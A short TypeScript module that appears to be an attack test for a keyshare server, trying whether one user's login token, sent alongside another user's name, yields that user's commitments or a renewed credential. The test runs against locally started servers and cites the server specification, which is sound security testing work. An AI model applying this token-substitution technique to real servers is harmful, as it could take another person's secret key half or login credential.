/** A user names another user beside the token of the own account. @module */
import { callAt, headersOf, KEY, login, PIN } from '../../faults/keyshare/app.ts'
import type { Attack } from '../attack.ts'
import { post, startKeyshare, userOf } from '../keyshares.ts'

export const attack: Attack = {
  name: 'token-of-another',
  gains: 'the half of the secret key of another user',
  cites: 'spec/keyshare-server#7.2',
  on: 'own servers',
  async run(own) {
    const servers = await startKeyshare(own)
    const [attacker, victim] = [await userOf(servers), await userOf(servers)]
    const { message: token } = await login(servers, attacker, PIN)
    const right = await post(servers, '/prove/getCommitments', [KEY], headersOf(attacker, token))
    if (right.status !== 200) throw new Error('expected a commitment for the own account')
    const headers = headersOf(victim, token)
    const commitment = await post(servers, '/prove/getCommitments', [KEY], headers)
    if (commitment.status === 200) return 'a commitment for another account'
    const renewing = { method: 'GET', headers }
    const renewed = await callAt(servers.urls[0] ?? '', '/users/renewKeyshareAttribute', renewing)
    if (renewed.status === 200) return 'the login credential of another account'
    return null
  },
}
